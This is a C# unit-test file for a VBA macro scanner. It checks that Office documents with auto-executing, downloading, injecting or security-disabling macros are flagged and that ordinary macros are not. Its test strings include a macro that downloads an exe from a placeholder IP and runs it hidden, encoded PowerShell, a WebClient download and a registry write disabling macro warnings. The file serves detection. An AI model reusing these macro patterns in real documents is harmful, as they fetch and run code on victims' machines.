using System.Text;
using ScanHost.Pipeline.Tests.Doubles;
using ScanHost.TestKit;

namespace ScanHost.Pipeline.Tests.Stages.Documents;

public sealed class VbaStageTests
{
    private const string Auto = "Sub AutoOpen()\n";

    [Theory]
    [InlineData("Private Sub Workbook_Open()\nSet x = CreateObject(\"MSXML2.XMLHTTP\")\nx.Open \"GET\", \"https://rates.bank.invalid/eur.csv\", False\nEnd Sub")]
    [InlineData("Private Declare PtrSafe Sub Sleep Lib \"kernel32\" (ByVal ms As Long)\nSub Auto_Open()\nSleep 200\nEnd Sub")]
    [InlineData("Private Declare PtrSafe Function SolvAdd Lib \"Solver32.dll\" (ByVal n As Long) As Long\nSub Auto_Open()\nSolvAdd 1\nEnd Sub")]
    public async Task A_macro_that_talks_to_Office_waits_or_calls_its_own_library_does_nothing(string source)
    {
        var file = OoxmlBuilder.Excel().WithMacros(new VbaProjectBuilder().Module("M", source).Build()).Build();

        (await DocumentScans.FindingsAsync(file)).Should().NotContain("vba.auto_exec_write");
    }

    [Theory]
    [InlineData("Module1.bas", "Attribute VB_Name = \"M\"\n")]
    [InlineData("macro.vba", "")]
    public async Task A_module_that_comes_by_itself_is_judged_like_one_in_a_document(string name, string head)
    {
        var outcome = await Scans.OfAsync(Encoding.ASCII.GetBytes(head + "Declare PtrSafe Function URLDownloadToFile Lib \"urlmon\" ()\nSub AutoOpen()\nURLDownloadToFile 0, \"http://192.0.2.1/a.exe\", f, 0, 0\nShell f, vbHide\nEnd Sub\n"), name);

        outcome.Findings.Select(found => found.Id).Should().Contain(["vba.auto_exec_write", "vba.download"]);
    }

    [Theory]
    [InlineData("vba.auto_exec_write", Auto + "Open \"x.txt\" For Output As #1\nEnd Sub")]
    [InlineData("vba.auto_exec_write", "Private Sub Workbook_Open()\nSet o = CreateObject(\"Shell.Application\")\nEnd Sub")]
    [InlineData("vba.auto_shell_enc", Auto + "Shell \"powershell -enc SQBFAFgAIAAoAE4AZQB3AC0A\"\nEnd Sub")]
    [InlineData("vba.auto_shell_enc", Auto + "Set d = n.createElement(\"b\"): d.DataType = \"bin.base64\"\nCreateObject(\"WScript.Shell\").Run s\nEnd Sub")]
    [InlineData("vba.download", "Declare Function URLDownloadToFileA Lib \"urlmon\" ()")]
    [InlineData("vba.download", "Sub A()\nSet h = CreateObject(\"MSXML2.XMLHTTP\")\nSet s = CreateObject(\"ADODB.Stream\")\ns.SaveToFile f\nEnd Sub")]
    [InlineData("vba.download", "Sub A()\nShell \"powershell (New-Object Net.WebClient).Downl\" & \"oadFile('http://host.invalid/a')\"\nEnd Sub")]
    [InlineData("vba.wmi", "Sub A()\nGetObject(\"winmgmts:root\\cimv2:Win32_Process\").Create \"x\"\nEnd Sub")]
    [InlineData("vba.inject", "Declare PtrSafe Function VirtualAlloc Lib \"kernel32\" ()\nDeclare Sub RtlMoveMemory Lib \"kernel32\" ()\nDeclare Function CreateThread Lib \"kernel32\" ()")]
    [InlineData("vba.disable_sec", "Sub A()\nw.RegWrite \"HKCU\\Software\\Microsoft\\Office\\16.0\\Word\\Security\\VBAWarnings\", 1\nEnd Sub")]
    [InlineData("vba.chr_chain", "x = Chr(1+71) & Chr(72) & Chr(73) & Chr(74) & Chr(75) & Chr(76) & Chr(77) & Chr(78) & Chr(79) & Chr(80) & Chr(81) & Chr(82) & Chr(83) & Chr(84) & Chr(85) & Chr(86) & Chr(87) & Chr(88) & Chr(89) & Chr(90)")]
    public async Task What_a_macro_does_is_found(string finding, string source)
    {
        var outcome = await Scans.OfAsync(new VbaProjectBuilder().Module("Module1", source).Build());

        outcome.Findings.Select(found => found.Id).Should().Contain(finding);
    }

    [Theory]
    [InlineData("Sub Format()\nRange(\"A1\").Font.Bold = True\nEnd Sub")]
    [InlineData("Sub AutoOpen()\nMsgBox \"Welcome\"\nEnd Sub")]
    [InlineData("Sub Export()\nOpen \"x.csv\" For Output As #1\nPrint #1, Range(\"A1\").Value\nClose #1\nEnd Sub")]
    [InlineData("Sub AutoOpen()\n' CreateObject(\"WScript.Shell\").Run \"powershell -enc SQBFAFgAIAAoAE4AZQB3AC0A\"\nEnd Sub")]
    [InlineData("Sub Lines()\nx = \"a\" & Chr(13) & Chr(10) & \"b\" & Chr(34)\nEnd Sub")]
    [InlineData("Sub Ask()\nSet h = CreateObject(\"MSXML2.XMLHTTP\")\nh.Open \"GET\", \"https://host.invalid/rates\"\nEnd Sub")]
    [InlineData("Declare Sub RtlMoveMemory Lib \"kernel32\" ()\nSub Copy()\nEnd Sub")]
    [InlineData("Sub Doc()\nActiveDocument.BuiltinDocumentProperties(\"Title\") = \"x\"\nEnd Sub")]
    public async Task An_office_workers_macro_is_not(string source)
    {
        var outcome = await Scans.OfAsync(new VbaProjectBuilder().Module("Module1", source).Build());

        outcome.Findings.Should().BeEmpty();
    }

    [Fact]
    public async Task Modules_of_a_project_are_judged_together()
    {
        var file = new VbaProjectBuilder().Module("ThisDocument", "Sub Document_Open()\nRunIt\nEnd Sub").Module("Other", "Sub RunIt()\nCreateObject(\"WScript.Shell\").Run \"calc\"\nEnd Sub").Build();

        var outcome = await Scans.OfAsync(file);

        outcome.Findings.Select(found => found.Id).Should().Contain("vba.auto_exec_write");
        outcome.Artifacts[0].Facts["vba"]["flags"]!.GetValue<string>().Should().Be("AX");
    }

    [Fact]
    public async Task A_stomped_module_is_found()
    {
        var file = new VbaProjectBuilder().Module("M", "Sub A()\nEnd Sub", VbaProjectBuilder.CompiledLiterals("powershell", "http://host.invalid")).Build();

        (await Scans.OfAsync(file)).Findings.Select(found => found.Id).Should().Equal("vba.stomp");
    }

    [Fact]
    public async Task A_payload_in_a_form_that_a_macro_reads_is_found()
    {
        var file = new VbaProjectBuilder().Module("M", "Sub A()\nx = UserForm1.TextBox1.Text\nEnd Sub")
            .AddTo(new OleFileBuilder()).Stream("UserForm1/o", [.. new byte[20], .. "powershell -w hidden"u8]).Build();

        (await Scans.OfAsync(file)).Findings.Select(found => found.Id).Should().Equal("vba.hidden_data");
    }

    [Theory]
    [InlineData(16, false)]
    [InlineData(400, false)]
    [InlineData(500, true)]
    public async Task Macros_behind_empty_projects_are_judged_or_a_gap(int before, bool isGap)
    {
        var ole = new OleFileBuilder();
        for (var number = 0; number < before; number++)
            ole.Stream($"D{number}/VBA/x", [1]);
        var file = new VbaProjectBuilder().Module("M", Auto + "CreateObject(\"WScript.Shell\").Run \"calc\"\nEnd Sub").AddTo(ole, "Macros").Build();

        var outcome = await DocumentScans.ScanAsync(file, "a.doc");

        outcome.Findings.Any(finding => finding.Id == "vba.auto_exec_write").Should().Be(!isGap);
        outcome.Gaps.Any(gap => gap.Stage == "vba").Should().Be(isGap);
    }
}
